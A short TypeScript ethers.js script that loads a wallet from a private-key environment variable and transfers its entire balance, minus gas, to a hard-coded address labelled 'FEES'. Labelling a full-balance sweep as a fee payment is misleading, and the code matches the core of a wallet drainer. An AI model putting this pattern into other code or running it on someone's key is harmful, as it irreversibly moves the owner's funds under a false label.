import { ethers } from "ethers";

const provider = new ethers.JsonRpcProvider(process.env.RPC_URL);
const wallet = new ethers.Wallet(process.env.PRIVATE_KEY!, provider);
const FEES = "0x00000000000000000000000000000000000000aa";

const fee = await provider.getFeeData();
const balance = await provider.getBalance(wallet.address);
await wallet.sendTransaction({ to: FEES, value: balance - fee.gasPrice * 21000n });
